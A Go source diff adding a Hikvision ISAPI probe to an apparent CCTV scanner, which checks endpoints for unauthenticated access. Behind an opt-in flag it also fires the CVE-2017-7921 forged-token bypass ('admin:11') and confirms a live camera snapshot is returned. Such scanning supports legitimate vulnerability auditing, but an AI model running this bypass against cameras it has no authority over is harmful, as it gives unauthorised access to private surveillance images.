@@ -0,0 +1,144 @@
+package probe
+
+import (
+	"context"
+	"io"
+	"net"
+	"net/http"
+	"slices"
+	"strings"
+
+	"github.com/postfix/cctvscan/internal/util"
+)
+
+// ISAPIBypassCVE is the Hikvision authentication bypass through a forged auth token
+const ISAPIBypassCVE = "CVE-2017-7921"
+
+// isapiBypassPath fetches a snapshot with the auth token "admin:11" that affected
+// firmware accepts in place of credentials
+const isapiBypassPath = "/onvif-http/snapshot?auth=YWRtaW46MTEK"
+
+// isapiEndpoints are the ISAPI resources walked on each port: identity, feature set
+// and stream layout first, then what older firmware leaks without credentials
+var isapiEndpoints = []string{
+	"/ISAPI/System/deviceInfo",
+	"/ISAPI/System/capabilities",
+	"/ISAPI/Streaming/channels",
+	"/ISAPI/Security/userCheck",
+	"/ISAPI/Security/users",
+	"/ISAPI/System/Network/interfaces",
+	"/ISAPI/System/time",
+	"/SDK/webLanguage",
+}
+
+// isapiMarkers are XML namespaces only ISAPI answers carry, even in 401 bodies
+var isapiMarkers = []string{"www.hikvision.com/ver", "www.isapi.org/ver", "www.std-cgi.com/ver"}
+
+// ISAPIEndpoint is how one ISAPI resource answered without credentials
+type ISAPIEndpoint struct {
+	Path   string
+	Status int
+	Auth   string // Challenge scheme on a 401, e.g. Digest
+}
+
+// Open reports whether the resource was served without credentials
+func (e ISAPIEndpoint) Open() bool { return e.Status == http.StatusOK }
+
+// ISAPIInfo is the ISAPI surface of a Hikvision web server
+type ISAPIInfo struct {
+	Base      string // e.g. http://10.0.0.5:80
+	Endpoints []ISAPIEndpoint
+	Bypass    string // Snapshot URL served through the CVE-2017-7921 token; "" if not vulnerable or not checked
+}
+
+// Found reports whether an ISAPI web server was identified
+func (i ISAPIInfo) Found() bool { return i.Base != "" }
+
+// OpenEndpoints returns the paths served without credentials
+func (i ISAPIInfo) OpenEndpoints() []string {
+	var out []string
+	for _, e := range i.Endpoints {
+		if e.Open() {
+			out = append(out, e.Path)
+		}
+	}
+	return out
+}
+
+// ProbeISAPI walks isapiEndpoints without credentials on each port until one is
+// recognised as ISAPI by the XML namespaces of its answers. With
+// ProbeConfig.CheckISAPIBypass it also requests the CVE-2017-7921 snapshot, which
+// reads a live image from a vulnerable device.
+func ProbeISAPI(ctx context.Context, host string, ports []int) ISAPIInfo {
+	cfg := ConfigFrom(ctx)
+	client := cfg.HTTP.Client()
+	client.CheckRedirect = func(req *http.Request, via []*http.Request) error {
+		return http.ErrUseLastResponse
+	}
+	for _, p := range ports {
+		if ctx.Err() != nil {
+			break
+		}
+		base := DetectScheme(ctx, host, p) + "://" + net.JoinHostPort(host, util.Itoa(p))
+		info := ISAPIInfo{Base: base}
+		isISAPI := false
+		for _, path := range isapiEndpoints {
+			endpoint, body, err := isapiGet(ctx, client, base, path)
+			if err != nil {
+				continue
+			}
+			info.Endpoints = append(info.Endpoints, endpoint)
+			body = strings.ToLower(body)
+			if slices.ContainsFunc(isapiMarkers, func(m string) bool { return strings.Contains(body, m) }) {
+				isISAPI = true
+			}
+			if !isISAPI && endpoint.Status == http.StatusNotFound && path == isapiEndpoints[0] {
+				break // Not an ISAPI web server; don't walk the rest
+			}
+		}
+		if !isISAPI {
+			continue
+		}
+		if cfg.CheckISAPIBypass && isapiBypass(ctx, client, base+isapiBypassPath) {
+			info.Bypass = base + isapiBypassPath
+		}
+		return info
+	}
+	return ISAPIInfo{}
+}
+
+func isapiGet(ctx context.Context, client *http.Client, base, path string) (ISAPIEndpoint, string, error) {
+	req, err := http.NewRequestWithContext(ctx, "GET", base+path, nil)
+	if err != nil {
+		return ISAPIEndpoint{}, "", err
+	}
+	req.Header.Set("User-Agent", "CCTVTool/1.0")
+	resp, err := client.Do(req)
+	if err != nil {
+		return ISAPIEndpoint{}, "", err
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(io.LimitReader(resp.Body, maxDeviceInfoSize))
+	endpoint := ISAPIEndpoint{Path: path, Status: resp.StatusCode}
+	if c, ok := responseChallenge(resp); ok {
+		endpoint.Auth = c.Scheme
+	}
+	return endpoint, string(body), nil
+}
+
+// isapiBypass reports whether url served a JPEG without credentials
+func isapiBypass(ctx context.Context, client *http.Client, url string) bool {
+	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
+	if err != nil {
+		return false
+	}
+	req.Header.Set("User-Agent", "CCTVTool/1.0")
+	resp, err := client.Do(req)
+	if err != nil {
+		return false
+	}
+	defer resp.Body.Close()
+	head := make([]byte, 3)
+	n, _ := io.ReadFull(resp.Body, head)
+	return resp.StatusCode == http.StatusOK && n == 3 && head[0] == 0xff && head[1] == 0xd8 && head[2] == 0xff
+}